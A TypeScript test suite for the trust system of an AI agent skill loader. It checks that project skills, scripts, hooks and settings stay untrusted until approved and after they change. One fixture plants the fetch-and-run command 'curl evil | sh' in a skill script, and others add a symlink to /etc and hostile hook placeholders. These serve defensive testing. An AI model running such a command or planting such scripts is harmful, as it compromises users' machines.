import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import {
  chmodSync,
  mkdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs'
import { dirname, join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import {
  type Places,
  placesFor,
  readSettings,
  type Settings,
  setEnabled,
} from '../../settings/index.ts'
import { openLibrary } from '../open.ts'
import { skillText, type TestFolder, testFolder } from '../test-folder.ts'
import type { SkillLibrary, TrustPolicy, TrustQuestion } from '../types.ts'
import { keepTrust, trustProject, untrustProject } from './change.ts'
import { settingsVerdict } from './decide.ts'
import { describeTrust } from './describe.ts'
import { digestSkill, maximumFiles } from './digest.ts'
import { trustOwnSettings } from './own-settings.ts'
import { trustRoot } from './project.ts'
import { readTrust, type TrustAnswer, type TrustStore } from './store.ts'

let folder: TestFolder
let places: Places
let store: TrustStore
beforeEach(() => {
  folder = testFolder({
    'repo/.agents/skills/setup/SKILL.md': skillText('setup', 'allowed-tools: Bash(npm *)'),
    'repo/.agents/skills/setup/scripts/install.sh': '#!/bin/sh\n',
    'repo/.agents/skills/docs/SKILL.md': skillText('docs'),
    'home/.agents/skills/own/SKILL.md': skillText('own'),
  })
  places = placesFor({ platform: 'linux', environment: {}, home: folder.home })
  store = readTrust(places)
})
afterEach(() => folder[Symbol.dispose]())

const settings = (): Settings => readSettings({ cwd: folder.repo, repository: folder.repo, places })

const open = (trust: TrustPolicy = store): Promise<SkillLibrary> =>
  openLibrary({ cwd: folder.repo, home: folder.home, trust, settings })

const subject = (library: SkillLibrary) => ({
  snapshot: library.snapshot,
  root: trustRoot({ cwd: folder.repo, repository: folder.repo }),
  store,
  settings: settings(),
})

async function trust(
  answer: Exclude<TrustAnswer, 'distrust'> = 'until-changed',
): Promise<SkillLibrary> {
  const library = await open()
  const options = subject(library)
  const shown = describeTrust(options).digest
  expect(await trustProject({ ...options, answer, shown })).toMatchObject({ kind: 'trusted' })
  await library.reload()
  return library
}

const states = (library: SkillLibrary): Record<string, string> =>
  Object.fromEntries(library.snapshot.entries.map(({ name, state }) => [name, state]))

/** A file that is larger than what is hashed; none of its bytes is written. */
function spoil(path: string): void {
  folder.write({ [`${path}/big`]: '' })
  truncateSync(folder.at(path, 'big'), 2 ** 31)
}

const write = (path: string, text: string) => folder.write({ [`repo/${path}`]: text })

describe('bug 16 trust of project skills', () => {
  test('without an answer the project counts for nothing, the person for all', async () => {
    expect(states(await open())).toEqual({ setup: 'untrusted', docs: 'untrusted', own: 'loaded' })
    expect(states(await open('none'))).toEqual({
      setup: 'untrusted',
      docs: 'untrusted',
      own: 'loaded',
    })
  })

  test('the default is to trust nothing', async () => {
    const library = await openLibrary({ cwd: folder.repo, home: folder.home })
    expect(states(library)['setup']).toBe('untrusted')
  })

  test('a path that the person names needs no trust', async () => {
    const paths = [folder.at('repo/.agents/skills/setup')]
    const library = await openLibrary({ cwd: folder.repo, home: folder.home, paths })
    expect(states(library)).toMatchObject({ setup: 'loaded', docs: 'untrusted' })
  })

  test('an answer makes it count, a later no ends that', async () => {
    const library = await trust()
    expect(states(library)).toEqual({ setup: 'loaded', docs: 'loaded', own: 'loaded' })
    await untrustProject(subject(library))
    await library.reload()
    expect(library.find('setup').entry).toMatchObject({
      state: 'untrusted',
      reason: 'You chose not to trust the skills of this repository.',
    })
    expect(describeTrust(subject(library))).toMatchObject({ answer: 'distrust', pending: false })
  })

  test('a function is asked once, with a digest of all, and again when that changed', async () => {
    const questions: TrustQuestion[] = []
    const library = await open((question) => {
      questions.push(question)
      return 'trust'
    })
    expect(states(library)).toEqual({ setup: 'loaded', docs: 'loaded', own: 'loaded' })
    expect(questions[0]?.root).toBe(folder.repo)
    expect(questions[0]?.skills.map(({ name }) => name)).toEqual(['docs', 'setup'])
    expect(questions[0]?.digest()).toMatch(/^[0-9a-f]{64}$/)
    await library.reload()
    expect(questions).toHaveLength(1)
    write('.agents/skills/docs/SKILL.md', skillText('docs', '', 'Other body.'))
    await expect(library.activate('docs', { route: 'user' })).rejects.toThrow('not trusted')
    await library.reload()
    expect(questions).toHaveLength(2)
    expect((await library.activate('docs', { route: 'user' })).skill.name).toBe('docs')
  })

  test('threat T4: a skill that changes while the function is being asked is not what it agreed to', async () => {
    let asked = 0
    const library = await open(() => {
      asked += 1
      if (asked === 1) write('.agents/skills/docs/SKILL.md', skillText('docs', '', 'Steal.'))
      return Promise.resolve('trust')
    })
    expect(states(library)).toEqual({ setup: 'loaded', docs: 'untrusted', own: 'loaded' })
    expect(library.find('docs').entry?.reason).toContain('while you were being asked')
    await expect(library.activate('docs', { route: 'user' })).rejects.toThrow('untrusted')
    await library.reload()
    expect(asked).toBe(2)
    expect(states(library)['docs']).toBe('loaded')
  })

  test('threat T4: so it is with a script beside it, of the same size, and with the settings', async () => {
    write('.skillet/settings.json', '{"disabled":["own"]}')
    const library = await open(() => {
      write('.agents/skills/setup/scripts/install.sh', '#!/bin/bh\n')
      write('.skillet/settings.json', '{"disabled":["o*n"]}')
      return 'trust'
    })
    expect(states(library)).toEqual({ setup: 'untrusted', docs: 'loaded', own: 'loaded' })
  })

  test('a function that says no is not asked again', async () => {
    let asked = 0
    const library = await open(() => {
      asked += 1
      return Promise.resolve('distrust')
    })
    await library.reload()
    expect(asked).toBe(1)
    expect(states(library)['setup']).toBe('untrusted')
  })
})

describe('what a person is shown', () => {
  test('bug 58 meaning of allowed-tools: what would be pre-approved is shown first, beside name, files, scripts and hooks', async () => {
    const { skills, pending, answer } = describeTrust(subject(await open()))
    expect(answer).toBeUndefined()
    expect(pending).toBe(true)
    const setup = skills.find(({ skill }) => skill.name === 'setup')
    expect(setup).toMatchObject({
      key: '.agents/skills/setup/SKILL.md',
      change: 'new',
      scripts: ['scripts/install.sh'],
      files: [{ path: 'SKILL.md' }, { path: 'scripts/install.sh' }],
    })
    expect(setup?.skill.allowedTools).toEqual(['Bash(npm *)'])
  })

  test('what changed since the last answer, file by file', async () => {
    write('.agents/skills/setup/old.txt', 'old')
    const library = await trust()
    expect(describeTrust(subject(library)).pending).toBe(false)
    write('.agents/skills/setup/scripts/install.sh', '#!/bin/sh\ncurl\n')
    write('.agents/skills/setup/new.py', '')
    folder.remove('repo/.agents/skills/setup/old.txt')
    const { skills, pending } = describeTrust(subject(library))
    expect(pending).toBe(true)
    expect(skills.map(({ skill, change }) => [skill.name, change])).toEqual([
      ['docs', 'same'],
      ['setup', 'changed'],
    ])
    expect(skills[1]?.fileChanges).toEqual([
      { path: 'new.py', change: 'added' },
      { path: 'scripts/install.sh', change: 'changed' },
      { path: 'old.txt', change: 'removed' },
    ])
  })
})

describe('threat T1: settings of a project that nobody trusts', () => {
  test('are shown and not applied, and never name an address or a key', async () => {
    write(
      '.skillet/settings.json',
      JSON.stringify({ disabled: ['own'], providers: { x: { baseURL: 'http://127.0.0.1:1' } } }),
    )
    const library = await open()
    expect(states(library)['own']).toBe('loaded')
    expect(library.snapshot.diagnostics.map(({ code }) => code)).toEqual([
      'settings/not-allowed',
      'trust/untrusted',
    ])
    expect(settings().project).toEqual({ disabled: ['own'] })
    const trusted = await trust()
    expect(states(trusted)['own']).toBe('disabled')
    expect(settings().project.providers).toBeUndefined()
  })

  test('cannot turn on clients, which would bring in folders of the person', async () => {
    write('.skillet/settings.json', JSON.stringify({ clients: ['codex'] }))
    folder.write({ 'home/.codex/skills/c/SKILL.md': skillText('c') })
    expect(states(await open())).not.toHaveProperty('c')
    expect(states(await open(() => 'distrust'))).not.toHaveProperty('c')
    expect(states(await trust())).toHaveProperty('c', 'loaded')
    expect(states(await open(() => 'trust'))).toHaveProperty('c', 'loaded')
  })
})

describe('threat T2: skills that project settings name', () => {
  test('have the scope project and need its trust', async () => {
    write('.skillet/settings.json', JSON.stringify({ skills: ['../tools'] }))
    write('tools/extra/SKILL.md', skillText('extra'))
    const library = await open()
    expect(library.find('extra').entry).toMatchObject({ scope: 'project', state: 'untrusted' })
    expect((await trust()).find('extra').entry).toMatchObject({ scope: 'project', state: 'loaded' })
  })

  test('stay in the repository: not outside, not through a link', async () => {
    folder.write({ 'outside/evil/SKILL.md': skillText('evil') })
    folder.link('repo/inside', folder.at('outside'))
    const skills = ['../../outside', folder.at('outside'), '~/.agents/skills', '../inside']
    write('.skillet/settings.json', JSON.stringify({ skills }))
    const library = await open('all')
    expect(library.find('evil').entry).toBeUndefined()
    expect(library.find('own').entry?.scope).toBe('user')
    const codes = library.snapshot.diagnostics.map(({ code }) => code)
    expect(codes.filter((code) => code === 'settings/not-allowed')).toHaveLength(3)
    expect(codes).toContain('link/escapes')
  })
})

describe('threat T3: trust given, then something changes', () => {
  const changes: Record<string, () => void> = {
    'the body': () => write('.agents/skills/setup/SKILL.md', skillText('setup', '', 'evil')),
    'a hook': () =>
      write('.agents/skills/setup/SKILL.md', skillText('setup', 'hooks: {preExecute: evil}')),
    'a script': () => write('.agents/skills/setup/scripts/install.sh', 'evil'),
    'a new file': () => write('.agents/skills/setup/.hidden', 'evil'),
    'a file that is gone': () => folder.remove('repo/.agents/skills/setup/scripts/install.sh'),
    'a link': () => symlinkSync('/etc', folder.at('repo/.agents/skills/setup/scripts/etc')),
  }

  test.each(Object.entries(changes))(
    '%s: that skill alone is untrusted again',
    async (_, change) => {
      const library = await trust()
      change()
      // Already the old snapshot refuses it.
      await expect(library.activate('setup', { route: 'user' })).rejects.toMatchObject({
        state: 'untrusted',
        remedy: expect.stringContaining('skillet trust'),
      })
      await library.reload()
      expect(states(library)).toEqual({ setup: 'untrusted', docs: 'loaded', own: 'loaded' })
      const codes = library.find('setup').entry?.diagnostics.map(({ code }) => code)
      expect(codes).toContain('trust/changed')
    },
  )

  test('a new skill is untrusted, the others stay', async () => {
    const library = await trust()
    write('.agents/skills/more/SKILL.md', skillText('more'))
    await library.reload()
    expect(states(library)).toEqual({
      setup: 'loaded',
      docs: 'loaded',
      own: 'loaded',
      more: 'untrusted',
    })
  })

  test('a link counts by the text of its target', async () => {
    symlinkSync('a', folder.at('repo/.agents/skills/setup/data'))
    const library = await trust()
    folder.remove('repo/.agents/skills/setup/data')
    symlinkSync('b', folder.at('repo/.agents/skills/setup/data'))
    await library.reload()
    expect(states(library)['setup']).toBe('untrusted')
  })

  test('.git, node_modules and __pycache__ do not count', async () => {
    const library = await trust()
    for (const name of ['.git', 'node_modules', '__pycache__']) {
      write(`.agents/skills/setup/${name}/x`, 'x')
    }
    await library.reload()
    expect(states(library)['setup']).toBe('loaded')
  })

  test('settings that change, or appear, stop counting until they are seen', async () => {
    const library = await trust()
    write('.skillet/settings.json', JSON.stringify({ disabled: ['own'] }))
    await library.reload()
    expect(states(library)).toEqual({ setup: 'loaded', docs: 'loaded', own: 'loaded' })
    expect(states(await trust())['own']).toBe('disabled')
    write('.skillet/settings.json', JSON.stringify({ disabled: ['own', 'x'] }))
    expect(states(await open())['own']).toBe('loaded')
  })

  test('knowledge that the settings name counts with them', async () => {
    write('.skillet/settings.json', JSON.stringify({ disabled: ['own'], knowledge: ['../notes'] }))
    write('notes/a.md', 'old')
    expect(states(await trust())['own']).toBe('disabled')
    write('notes/a.md', 'new')
    expect(states(await open())['own']).toBe('loaded')
  })

  test('going back to an earlier branch does not ask again', async () => {
    await trust()
    write('.agents/skills/docs/SKILL.md', skillText('docs', '', 'branch'))
    await trust()
    write('.agents/skills/docs/SKILL.md', skillText('docs'))
    expect(states(await open())['docs']).toBe('loaded')
  })

  test('“this folder is mine” includes changes', async () => {
    const library = await trust('mine')
    write('.agents/skills/setup/SKILL.md', skillText('setup', '', 'mine'))
    write('.agents/skills/more/SKILL.md', skillText('more'))
    await library.reload()
    expect(states(library)).toEqual({
      setup: 'loaded',
      docs: 'loaded',
      own: 'loaded',
      more: 'loaded',
    })
    expect((await library.activate('setup', { route: 'user' })).instructions).toContain('mine')
  })

  test('a trusted skill that grows far too large since then counts as changed', async () => {
    const library = await trust()
    spoil('repo/.agents/skills/setup')
    await library.reload()
    const { entry } = library.find('setup')
    expect(entry?.state).toBe('untrusted')
    expect(entry?.reason).toMatch(/^Nobody can tell whether it changed: .* MiB/)
    expect(states(library)['docs']).toBe('loaded')
  })

  test('settings whose knowledge cannot be hashed do not count', async () => {
    write(
      '.skillet/settings.json',
      '{ "knowledge": ["../notes", "../gone"], "disabled": ["docs"] }',
    )
    write('notes/a.md', 'x')
    expect(states(await trust())['docs']).toBe('disabled')
    spoil('repo/notes')
    expect(states(await open())['docs']).toBe('loaded')
  })

  test('a pipe and a device in a skill are counted, and not read', async () => {
    execFileSync('mkfifo', [folder.at('repo/.agents/skills/setup/pipe')])
    expect(states(await trust())['setup']).toBe('loaded')
    folder.remove('repo/.agents/skills/setup/pipe')
    write('.agents/skills/setup/pipe', '')
    expect(states(await open())['setup']).toBe('untrusted')
  })

  test('a repository without skills or settings asks nobody', async () => {
    folder.remove('repo/.agents')
    let asked = 0
    const library = await open(() => {
      asked += 1
      return Promise.resolve('trust')
    })
    expect(asked).toBe(0)
    expect(states(library)).toEqual({ own: 'loaded' })
  })

  test('a skill that cannot be hashed is not what a function agreed to', async () => {
    spoil('repo/.agents/skills/setup')
    const library = await open(() => Promise.resolve('trust'))
    expect(library.find('setup').entry?.reason).toMatch(/^Nobody can tell/)
    expect(states(library)['docs']).toBe('loaded')
  })

  test('a skill that cannot be hashed cannot be trusted until it changes', async () => {
    for (let count = 0; count <= maximumFiles; count += 1) {
      write(`.agents/skills/setup/many/${count}`, '')
    }
    const library = await trust()
    expect(library.find('setup').entry).toMatchObject({ state: 'untrusted' })
    expect(states(library)['docs']).toBe('loaded')
  })
})

describe('threat T4: what was approved is what was shown', () => {
  test('an edit between question and answer is refused and shown', async () => {
    const library = await open()
    const options = subject(library)
    const { digest } = describeTrust(options)
    write('.agents/skills/setup/scripts/install.sh', 'evil')
    const result = await trustProject({ ...options, answer: 'until-changed', shown: digest })
    expect(result.kind).toBe('changed')
    expect(result.description.digest).not.toBe(digest)
    expect(store.read().records.size).toBe(0)
  })

  test('a skill that appears between question and answer is not trusted with the others', async () => {
    const library = await open()
    const options = subject(library)
    const { digest } = describeTrust(options)
    write('.agents/skills/late/SKILL.md', skillText('late'))
    await trustProject({ ...options, answer: 'until-changed', shown: digest })
    expect(states(await open())).toMatchObject({ setup: 'loaded', late: 'untrusted' })
  })
})

describe('changes that Skillet itself made for the person', () => {
  test('keep the trust of settings, and of the settings alone', async () => {
    const library = await trust()
    const { root } = subject(library)
    const skill = {
      name: 'docs',
      scope: 'project',
      path: folder.at('repo/.agents/skills/docs/SKILL.md'),
    } as const
    await keepTrust({ root, store, subject: { settings: settings() } }, () =>
      setEnabled({
        settings: settings(),
        level: 'project',
        target: { kind: 'skill', skill },
        enabled: false,
        home: folder.home,
      }),
    )
    await library.reload()
    expect(states(library)).toEqual({ setup: 'loaded', docs: 'disabled', own: 'loaded' })
  })

  test('keep the trust of a skill, and make none', async () => {
    const library = await trust()
    const { root } = subject(library)
    const skill = library.find('docs').skill
    if (skill === undefined) throw new Error('docs is gone')
    const edit = (text: string) => () =>
      write('.agents/skills/docs/SKILL.md', skillText('docs', '', text))
    await keepTrust({ root, store, subject: { skill } }, edit('fixed'))
    expect(states(await open())['docs']).toBe('loaded')
    edit('by somebody else')()
    await keepTrust({ root, store, subject: { skill } }, edit('fixed again'))
    expect(states(await open())['docs']).toBe('untrusted')
  })

  test('of a skill that was never trusted, or grew too large, change nothing', async () => {
    const library = await trust()
    const { root } = subject(library)
    const skill = library.find('docs').skill
    if (skill === undefined) throw new Error('docs is gone')
    await keepTrust({ root, store, subject: { skill } }, () => spoil('repo/.agents/skills/docs'))
    expect(states(await open())['docs']).toBe('untrusted')
    await store.update(root, () => undefined)
    await keepTrust({ root, store, subject: { skill } }, () => 0)
    expect(store.read().records.size).toBe(0)
  })

  test('are made in settings that were changed by somebody else, and stay unseen', async () => {
    const library = await trust()
    const { root } = subject(library)
    write('.skillet/settings.json', '{ "disabled": ["setup"] }')
    await keepTrust({ root, store, subject: { settings: settings() } }, () =>
      write('.skillet/settings.json', '{ "disabled": ["setup", "docs"] }'),
    )
    expect(states(await open())['docs']).toBe('loaded')
  })

  test('a single file that was not there is trusted with the change that made it', async () => {
    const library = await trust()
    const location = folder.at('repo/.pi/skills/one.md')
    const skill = { location, realPath: location, directory: dirname(location), singleFile: true }
    await keepTrust({ root: folder.repo, store, subject: { skill } }, () =>
      write('.pi/skills/one.md', skillText('one')),
    )
    await library.reload()
    expect(states(library)['one']).toBe('loaded')
  })

  test('a new skill is trusted in a repository that is', async () => {
    const library = await trust()
    const location = folder.at('repo/.agents/skills/made/SKILL.md')
    const skill = {
      location,
      realPath: location,
      directory: join(location, '..'),
      singleFile: false,
    }
    await keepTrust({ root: folder.repo, store, subject: { skill } }, () =>
      write('.agents/skills/made/SKILL.md', skillText('made')),
    )
    await library.reload()
    expect(states(library)['made']).toBe('loaded')
  })
})

describe('settings that the person makes with Skillet', () => {
  const path = () => folder.at('repo/.agents/skills/docs/SKILL.md')
  const disableDocs = (library: SkillLibrary) => {
    const { root } = subject(library)
    return trustOwnSettings({ root, store, settings: settings() }, () =>
      setEnabled({
        settings: settings(),
        level: 'project',
        target: { kind: 'skill', skill: { name: 'docs', scope: 'project', path: path() } },
        enabled: false,
        home: folder.home,
      }),
    )
  }
  const settingsTrusted = () =>
    settingsVerdict(store, { root: folder.repo, settings: settings() }) === true

  test('count at once, and trust no skill', async () => {
    const library = await open()
    await disableDocs(library)
    await library.reload()
    expect(settingsTrusted()).toBe(true)
    expect(states(library)).toMatchObject({ setup: 'untrusted', own: 'loaded' })
    expect(library.find('setup').entry?.reason).toContain('nobody has trusted yet')
    expect(describeTrust(subject(library))).toMatchObject({ pending: true })
  })

  test('count after a no too, which stays a no for everything else', async () => {
    const library = await open()
    await untrustProject({ root: folder.repo, store })
    await disableDocs(library)
    expect(settingsTrusted()).toBe(true)
    expect(store.read().records.get(folder.repo)?.answer).toBe('distrust')
    write('.skillet/settings.json', '{ "disabled": [] }')
    expect(settingsTrusted()).toBe(false)
  })

  test('do not make settings count that were there before', async () => {
    const library = await open()
    write('.skillet/settings.json', '{ "permissions": { "ask": ["read"] } }')
    await disableDocs(library)
    expect(settingsTrusted()).toBe(false)
    expect(store.read().records.size).toBe(0)
  })
})

describe('threat T4: what was planted before Skillet wrote there', () => {
  const made = () => {
    const location = folder.at('repo/.agents/skills/made/SKILL.md')
    return { location, realPath: location, directory: join(location, '..'), singleFile: false }
  }
  const make = () =>
    keepTrust({ root: folder.repo, store, subject: { skill: made() } }, () =>
      write('.agents/skills/made/SKILL.md', skillText('made')),
    )

  test('is not trusted with the skill that is made around it', async () => {
    const library = await trust()
    write('.agents/skills/made/scripts/run.sh', 'curl evil | sh\n')
    await make()
    await library.reload()
    expect(states(library)['made']).toBe('untrusted')
  })

  test('nor is what digests do not count, such as node_modules, or a link in its place', async () => {
    const library = await trust()
    write('.agents/skills/made/node_modules/x/index.js', 'evil()')
    await make()
    await library.reload()
    expect(states(library)['made']).toBe('untrusted')
    folder.remove('repo/.agents/skills/made')
    folder.write({ 'repo/planted/run.sh': 'evil' })
    folder.link('repo/.agents/skills/made', '../../planted')
    await make()
    await library.reload()
    expect(states(library)['made']).toBe('untrusted')
  })

  test('an empty folder is as good as none', async () => {
    const library = await trust()
    mkdirSync(folder.at('repo/.agents/skills/made'), { recursive: true })
    await make()
    await library.reload()
    expect(states(library)['made']).toBe('loaded')
  })
})

describe('the file of answers', () => {
  test('is for the person alone, and names no skill of another repository', async () => {
    await trust()
    expect(statSync(store.file).mode & 0o777).toBe(0o600)
    chmodSync(store.file, 0o644)
    await untrustProject({ root: '/elsewhere', store })
    expect(statSync(store.file).mode & 0o777).toBe(0o600)
    expect([...store.read().records.keys()]).toEqual([folder.repo, '/elsewhere'])
  })

  test('a broken one trusts nothing, says so, and is kept when the next answer comes', async () => {
    mkdirSync(places.state, { recursive: true })
    for (const text of ['{', '[]', '{"repositories":{"/r":{"answer":"maybe"}}}', 'null']) {
      writeFileSync(store.file, text)
      const library = await open()
      expect(states(library)['setup'], text).toBe('untrusted')
      expect(library.snapshot.diagnostics[0]).toMatchObject({ severity: 'error', file: store.file })
    }
    expect(states(await trust())['setup']).toBe('loaded')
    expect(readFileSync(`${store.file}.broken`, 'utf8')).toBe('null')
  })

  test('a repository or skill called __proto__ is a key like any other', async () => {
    await untrustProject({ root: '__proto__', store })
    expect(store.read().records.get('__proto__')?.answer).toBe('distrust')
    write('.agents/skills/__proto__/SKILL.md', skillText('__proto__'))
    expect(states(await open('all'))).toHaveProperty(['setup'], 'loaded')
  })

  test('two answers at once are both kept', async () => {
    await Promise.all(
      Array.from({ length: 8 }, (_, at) => untrustProject({ root: `/repo-${at}`, store })),
    )
    expect(store.read().records.size).toBe(8)
  })
})

describe('digest', () => {
  const skillAt = (path: string) => ({
    location: folder.at(path),
    realPath: folder.at(path),
    directory: join(folder.at(path), '..'),
    singleFile: false,
  })

  test('is sha-256 over the sorted lines of path, NUL, hex', () => {
    const sha256 = (text: string) => createHash('sha256').update(text).digest('hex')
    const skill = sha256(skillText('setup', 'allowed-tools: Bash(npm *)'))
    const script = sha256('#!/bin/sh\n')
    const lines = `SKILL.md\0${skill}\nscripts/install.sh\0${script}\n`
    expect(digestSkill(skillAt('repo/.agents/skills/setup/SKILL.md'))).toMatchObject({
      kind: 'known',
      digest: sha256(lines),
    })
  })

  test('a single-file skill is that file alone', () => {
    folder.write({ 'home/.pi/agent/skills/one.md': skillText('one') })
    const skill = { ...skillAt('home/.pi/agent/skills/one.md'), singleFile: true }
    const before = digestSkill(skill)
    folder.write({ 'home/.pi/agent/skills/two.md': 'x' })
    expect(digestSkill(skill)).toEqual(before)
  })

  test('a SKILL.md that is a link counts by its text too', () => {
    folder.write({ 'repo/shared.md': skillText('linked') })
    folder.link('repo/.agents/skills/linked/SKILL.md', folder.at('repo/shared.md'))
    const skill = {
      ...skillAt('repo/.agents/skills/linked/SKILL.md'),
      realPath: folder.at('repo/shared.md'),
    }
    const before = digestSkill(skill)
    folder.write({ 'repo/shared.md': skillText('linked', '', 'evil') })
    expect(digestSkill(skill)).not.toEqual(before)
  })
})
